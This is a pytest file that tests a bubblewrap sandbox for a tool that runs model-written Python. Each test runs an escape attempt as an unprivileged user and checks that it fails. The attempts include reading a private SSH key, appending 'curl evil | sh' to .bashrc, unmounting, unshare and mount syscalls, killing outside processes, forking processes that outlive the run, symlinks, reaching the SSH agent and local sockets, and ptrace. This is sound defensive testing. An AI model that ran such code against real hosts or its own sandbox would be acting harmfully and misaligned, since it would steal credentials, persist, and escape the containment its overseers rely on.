"""Attacks on the python tool's box, run as an ordinary person (issue 29).

Each test runs code a model could write, through `sandbox_driver.py` started as the person: a
uid of its own when the suite runs as root (root hides what a box does for everyone else), with
a home folder holding a private key (0600) and a ``.bashrc``. Each asserts that the person's
files are unread and untouched and that nothing outside the run can be reached or outlives it.
Linux with bubblewrap only (the README's test command installs it).
"""

from __future__ import annotations

import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from magimac.tools import sandbox

REPO = Path(__file__).resolve().parents[2]
DRIVER = Path(__file__).with_name("sandbox_driver.py")
KEY = "-----BEGIN OPENSSH PRIVATE KEY----- the person's secret"
BASHRC = "# the person's .bashrc\n"

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux") or not sandbox.isolation().enforced,
                                reason="the Linux box needs bubblewrap: " + sandbox.isolation().how)


@dataclass
class Person:
    uid: int
    root: Path  # a folder the person may enter, holding home/
    home: Path
    python: str
    pythonpath: str

    def argv(self, *cmd: str) -> list[str]:
        if os.getuid() != 0:
            return list(cmd)
        return [shutil.which("setpriv") or "setpriv", f"--reuid={self.uid}", f"--regid={self.uid}", "--clear-groups", "--", *cmd]

    def env(self, **extra: str) -> dict[str, str]:
        return {"HOME": str(self.home), "PATH": "/usr/bin:/bin", "PYTHONPATH": self.pythonpath,
                "LANG": "C.UTF-8", **extra}

    def run(self, code: str, python: str | None = None, **env: str) -> dict:
        """The sandbox's result for ``code``, run by magimac started as this person."""
        f = Path(tempfile.mkstemp(dir=self.root, suffix=".py")[1])
        f.write_text(textwrap.dedent(code))
        f.chmod(0o644)
        p = subprocess.run(self.argv(python or self.python, str(self.root / DRIVER.name), str(f)), env=self.env(**env),
                           capture_output=True, text=True, timeout=60)
        assert p.returncode == 0, f"magimac itself did not survive: {p.returncode} {p.stderr[-500:]}"
        return json.loads(p.stdout.splitlines()[-1])


def _free_uid() -> int:
    for uid in range(4242, 4400):
        try:
            pwd.getpwuid(uid)
        except KeyError:
            return uid
    raise RuntimeError("no free uid")


def _install_for_person(root: Path) -> str:
    """Copy the sandbox's modules, the driver and psutil where the person can read them (the
    checkout and the venv may lie under root's 0700 home); returns the PYTHONPATH."""
    lib = root / "lib"
    (lib / "magimac" / "tools").mkdir(parents=True)
    for name in ("__init__.py", "tools/__init__.py", "tools/sandbox.py", "tools/bwrap.py", "tools/seatbelt.py"):
        shutil.copy(REPO / "magimac" / name, lib / "magimac" / name)
    shutil.copytree(Path(psutil.__file__).parent, lib / "psutil", ignore=shutil.ignore_patterns("tests"))
    shutil.copy(DRIVER, root / DRIVER.name)
    for p in [lib, *lib.rglob("*"), root / DRIVER.name]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    return str(lib)


def _python_for(uid_is_other: bool) -> str:
    """An interpreter the person may run."""
    if not uid_is_other or sandbox._world_runnable(Path(sys.executable)):
        return sys.executable
    if Path("/usr/bin/python3").exists():
        return "/usr/bin/python3"
    pytest.skip("no Python the unprivileged person may run")


@pytest.fixture(scope="module")
def person():
    root = Path(tempfile.mkdtemp(prefix="magimac-person-"))
    root.chmod(0o755)
    other = os.getuid() == 0
    uid = _free_uid() if other else os.getuid()
    home = root / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    (home / ".bashrc").write_text(BASHRC)
    (home / ".ssh" / "id_rsa").chmod(0o600)
    for p in (home, home / ".ssh"):
        p.chmod(0o700)
    if other:
        for p in (home, home / ".ssh", home / ".ssh" / "id_rsa", home / ".bashrc"):
            os.chown(p, uid, uid)
    yield Person(uid, root, home, _python_for(other), _install_for_person(root))
    shutil.rmtree(root, ignore_errors=True)


def untouched(person: Person, result: dict) -> None:
    """The key never reached the result and the home folder is as it was."""
    assert KEY not in json.dumps(result)
    assert (person.home / ".ssh" / "id_rsa").read_text() == KEY
    assert (person.home / ".bashrc").read_text() == BASHRC
    assert sorted(p.name for p in person.home.iterdir()) in ([".bashrc", ".ssh"], [".bashrc", ".ssh", "venv"])


def test_unmounting_everything_reveals_no_home(person):
    r = person.run(f"""
        import os, subprocess
        for cmd in (["umount", "--all"], ["umount", "-l", "/"], ["umount", {str(person.home)!r}]):
            subprocess.run(cmd, capture_output=True)
        print(open({str(person.home / '.ssh' / 'id_rsa')!r}).read())
    """)
    assert r["output"] is None and r["error"].startswith("FileNotFoundError")
    untouched(person, r)


def test_no_mount_remount_or_new_namespace_is_allowed(person):
    r = person.run("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        tries = {
            "mount proc": libc.mount(b"proc", b"/tmp", b"proc", 0, None),
            "remount /usr rw": libc.mount(None, b"/usr", None, 0x20 | 0x1000, None),  # MS_REMOUNT | MS_BIND
            "new user namespace": libc.unshare(0x10000000),
            "new mount namespace": libc.unshare(0x00020000),
            "mount tmpfs": libc.mount(b"none", b"/box", b"tmpfs", 0, None),
        }
        print(sorted(k for k, v in tries.items() if v == 0))
        open("/usr/magimac-was-here", "w")
    """)
    assert r["output"] is None and r["error"].startswith(("OSError: [Errno 30] Read-only file system",
                                                           "PermissionError"))
    probe = person.run("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        print([libc.mount(b"proc", b"/tmp", b"proc", 0, None), libc.unshare(0x10000000), libc.unshare(0x00020000)])
    """)
    assert probe == {"output": "[-1, -1, -1]", "error": None}
    assert not Path("/usr/magimac-was-here").exists()
    untouched(person, r)


def test_the_bashrc_cannot_be_appended_to(person):
    r = person.run(f"open({str(person.home / '.bashrc')!r}, 'a').write('curl evil | sh\\n')")
    assert r["output"] is None and r["error"].startswith("FileNotFoundError")
    untouched(person, r)


def test_nothing_outside_the_run_can_be_signalled(person):
    sentinel = subprocess.Popen(person.argv("sleep", "60"))
    try:
        time.sleep(0.2)
        r = person.run(f"""
            import os, signal
            for target in (os.getppid(), {sentinel.pid}, -1):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError as e:
                    print(type(e).__name__)
            print("still here")
        """)
        assert r["error"] is None and r["output"].endswith("still here")  # magimac answered: it was not killed
        assert sentinel.poll() is None, "a process of the person outside the box was killed"
    finally:
        sentinel.kill()
        sentinel.wait()


def _boxed_processes() -> list[psutil.Process]:
    out = []
    for p in psutil.process_iter(["cmdline"]):
        if any("/box/main.py" in a for a in (p.info.get("cmdline") or [])):
            out.append(p)
    return out


def test_no_process_outlives_the_run(person):
    r = person.run("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            os._exit(0)
        print("parent done")
    """)
    assert r == {"output": "parent done", "error": None}
    for _ in range(50):  # the namespace is torn down as the run ends; allow a moment to reap
        if not _boxed_processes():
            break
        time.sleep(0.1)
    assert _boxed_processes() == []


def test_tmp_is_private_and_nothing_written_is_left(person):
    mark = f"magimac-attack-{os.getpid()}"
    r = person.run(f"""
        import os
        print(os.listdir("/tmp"), os.getcwd(), sorted(os.listdir(".")))
        open("/tmp/{mark}", "w").write("x")
        open("{mark}", "w").write("x")
    """)
    assert r == {"output": "[] /box ['main.py']", "error": None}
    assert not (Path("/tmp") / mark).exists()
    assert not list(Path(tempfile.gettempdir()).glob(f"{sandbox.FOLDER_PREFIX}*"))


def test_a_symlink_out_of_the_folder_leads_nowhere(person):
    r = person.run(f"""
        import os
        os.symlink({str(person.home / '.ssh' / 'id_rsa')!r}, "key")
        print(open("key").read())
    """)
    assert r["output"] is None and r["error"].startswith("FileNotFoundError")
    untouched(person, r)


def test_the_persons_sockets_and_the_network_are_out_of_reach(person):
    agent_dir = Path(tempfile.mkdtemp(prefix="ssh-", dir=person.root))
    agent = socket.socket(socket.AF_UNIX)
    agent.bind(str(agent_dir / "agent.sock"))
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind(f"\0magimac-test-bus-{os.getpid()}")
    tcp = socket.create_server(("127.0.0.1", 0))
    for s in (agent, abstract, tcp):
        s.listen()
        s.setblocking(False)
    port = tcp.getsockname()[1]
    try:
        r = person.run(f"""
            import os, socket
            results = []
            for family, address in ((socket.AF_UNIX, os.environ.get("SSH_AUTH_SOCK", "")),
                                    (socket.AF_UNIX, "\\0magimac-test-bus-{os.getpid()}"),
                                    (socket.AF_UNIX, "/run/user/{person.uid}/bus"),
                                    (socket.AF_INET, ("127.0.0.1", {port}))):
                try:
                    socket.socket(family).connect(address)
                    results.append("connected")
                except OSError as e:
                    results.append(type(e).__name__)
            print(results)
        """, SSH_AUTH_SOCK=str(agent_dir / "agent.sock"))
        assert r["error"] is None and "connected" not in r["output"]
        for s in (agent, abstract, tcp):
            with pytest.raises(BlockingIOError):
                s.accept()
    finally:
        for s in (agent, abstract, tcp):
            s.close()


def test_proc_shows_only_the_runs_own_processes(person):
    r = person.run(f"""
        import ctypes, os
        pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
        libc = ctypes.CDLL(None, use_errno=True)
        attach = libc.ptrace(16, {os.getpid()}, None, None)  # PTRACE_ATTACH to the test runner
        print(len(pids) <= 4, attach, os.path.exists("/proc/{os.getpid()}/environ"))
    """)
    assert r == {"output": "True -1 False", "error": None}


def test_a_python_living_in_the_home_folder_shows_nothing_else_of_it(person):
    subprocess.run(person.argv(person.python, "-m", "venv", "--without-pip", str(person.home / "venv")),
                   env=person.env(), check=True, capture_output=True)
    r = person.run(f"""
        import os, sys
        print(sys.prefix == {str(person.home / 'venv')!r}, sorted(os.listdir({str(person.home)!r})))
        open({str(person.home / '.ssh' / 'id_rsa')!r})
    """, python=str(person.home / "venv" / "bin" / "python"))
    assert r["error"].startswith("FileNotFoundError")
    untouched(person, r)
    check = person.run(f"import os, sys; print(sys.prefix.endswith('venv'), os.listdir({str(person.home)!r}))",
                       python=str(person.home / "venv" / "bin" / "python"))
    assert check == {"output": "True ['venv']", "error": None}


def test_without_bubblewrap_the_tool_refuses_and_says_what_to_install(person, tmp_path):
    r = person.run("print('ran unboxed')", PATH=str(tmp_path))
    assert r["output"] is None
    assert r["error"] == ("refused, no sandbox: bubblewrap (bwrap) is not installed: install bubblewrap "
                          "(`sudo apt install bubblewrap`, `sudo dnf install bubblewrap`)")
    tools = subprocess.run([sys.executable, "-m", "magimac", "tools"], capture_output=True, text=True, timeout=120,
                           env={**os.environ, "PATH": str(tmp_path)})
    assert "python sandbox" in tools.stdout and "refused, no sandbox: bubblewrap (bwrap) is not installed" in tools.stdout
